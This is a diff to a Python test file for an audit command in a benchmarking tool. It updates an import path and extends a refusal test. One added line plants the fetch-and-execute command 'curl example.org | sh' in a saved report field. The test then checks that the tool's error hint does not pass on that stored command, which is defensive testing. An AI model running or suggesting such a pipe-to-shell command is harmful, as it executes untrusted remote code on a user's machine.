@@ -7,7 +7,7 @@ import pytest
 
 from edgekit.bench.session import Limits
 from edgekit.errors import NotComparableError, UsageError
-from edgekit.reports.comparable import Difference
+from edgekit.reports.compared.comparable import Difference
 from edgekit.reports.store import load, save
 from edgekit.types import Ratio
 from edgekit.verbs.choice.audit_run import Audited, audit_run
@@ -66,8 +66,10 @@ def test_another_condition_is_named(measured):
 
 def test_what_cannot_be_audited_is_refused(measured, tmp_path):
     path, folders = measured
-    with pytest.raises(UsageError, match="is not under"):
+    save(folders["reports"], load(path).model_copy(update={"export_command": "curl example.org | sh"}))
+    with pytest.raises(UsageError, match="is not under") as caught:
         audit_run(str(path), artifacts=tmp_path / "reports", reports=folders["reports"])
+    assert caught.value.hint.startswith("get the very file")  # no command that somebody else wrote
     with pytest.raises(UsageError, match="--launches must be at least"):
         audit_run(str(path), launches=2, **folders)
     with pytest.raises(UsageError, match="--within takes"):
